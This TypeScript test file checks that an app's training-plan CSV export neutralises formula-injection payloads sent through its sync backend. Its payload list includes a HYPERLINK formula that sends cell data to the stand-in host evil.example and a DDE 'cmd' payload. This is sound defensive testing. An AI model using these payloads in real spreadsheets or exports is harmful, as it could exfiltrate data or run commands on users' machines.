// Issue 14 item 9: CSV formula injection, end to end. Anyone who can write a training request
// (the owner, on any of their devices) types text that the plan's CSV export later hands to a
// spreadsheet. The payloads of the issue go through the real backend (sync_push, then the pull),
// and the exported file, read with every common separator, starts no formula; read with ours, it
// gives the text back (with the neutralising quote). Property tests over the characters:
// tests/domain/csv-injection.test.ts.
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildTrainingPlanCsv, type TrainingPlanCsvRow } from '@/domain/csv';
import { createConfirmedUser, type ConfirmedUser } from '../../../server/testing/backend';
import { startsFormula } from '../../domain/csv-oracle';
import { backend, trainingRequestRow, uuid } from '../helpers';

const PAYLOADS = [
  'Excel avancé,=2*21',
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
  '\t=1+1',
  ' +33 6 12 34 56 78',
  '\n-2+3',
  '\u3000@SUM(A1:A9)',
  "Formation;=cmd|' /C calc'!A0",
  '＝1+1',
];

let A: ConfirmedUser;
beforeAll(async () => {
  A = await createConfirmedUser(backend);
});

describe('CSV formula injection through the training plan', () => {
  it('payloads stored through sync_push come out of the export inert, whatever the separator', async () => {
    const mutations = PAYLOADS.map((topic, i) => {
      const { id, ...fields } = trainingRequestRow(A.id, {
        topic,
        pedagogical_objectives: PAYLOADS[(i + 1) % PAYLOADS.length],
      });
      return {
        id: uuid(),
        table: 'training_requests',
        op: 'insert',
        row_id: id,
        fields,
        base_version: 0,
      };
    });
    const pushed = await A.client.rpc('sync_push', { p_device_id: 'csv', p_mutations: mutations });
    expect(pushed.error).toBeNull();
    expect((pushed.data as Array<{ status: string }>).every((a) => a.status === 'applied')).toBe(
      true,
    );

    const pulled = await A.client.rpc('sync_pull', { p_table: 'training_requests' });
    expect(pulled.error).toBeNull();
    const rows = (pulled.data as { rows: TrainingPlanCsvRow[] }).rows;
    expect(rows.map((r) => r.topic).sort()).toEqual([...PAYLOADS].sort());

    const body = buildTrainingPlanCsv(rows, new Date()).content.replace(/^\ufeff/, '');
    for (const delimiter of [',', ';', '\t'])
      for (const newline of ['\r\n', '\n', '\r'] as const) {
        const { data } = Papa.parse<string[]>(body, { delimiter, newline });
        for (const record of data)
          for (const field of record)
            expect(startsFormula(field), `${JSON.stringify(delimiter)}: ${field}`).toBe(false);
      }

    // Read with ours, each cell is the text typed, with one leading quote where it was needed.
    const { data } = Papa.parse<string[]>(body, { delimiter: ';', newline: '\r\n' });
    const topics = data.slice(1).map((r) => r[2]!);
    for (const payload of PAYLOADS)
      expect(topics.some((t) => t.replaceAll("'", '') === payload.replaceAll("'", ''))).toBe(true);
    expect(topics).toContain("Excel avancé,'=2*21");
    expect(topics).toContain("'＝1+1");
  });
});
